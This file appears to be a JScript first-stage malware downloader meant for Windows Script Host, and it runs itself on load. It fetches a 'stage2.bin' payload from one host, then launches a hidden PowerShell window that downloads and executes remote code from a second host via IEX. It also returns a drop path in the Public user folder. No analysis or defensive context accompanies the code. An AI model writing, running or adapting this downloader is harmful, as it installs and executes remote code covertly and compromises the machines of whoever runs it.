
function stage() {
  var url = "http://payload.athena-test.xyz/stage2.bin";
  var fallback = "https://cdn.evil-updates.com/gate.php?id=42";
  var shell = new ActiveXObject("WScript.Shell");
  var http = new ActiveXObject("MSXML2.XMLHTTP");
  http.open("GET", url, false);
  http.send();
  shell.Run("powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('" + fallback + "')", 0);
  return "C:\\Users\\Public\\stage2.exe";
}
stage();
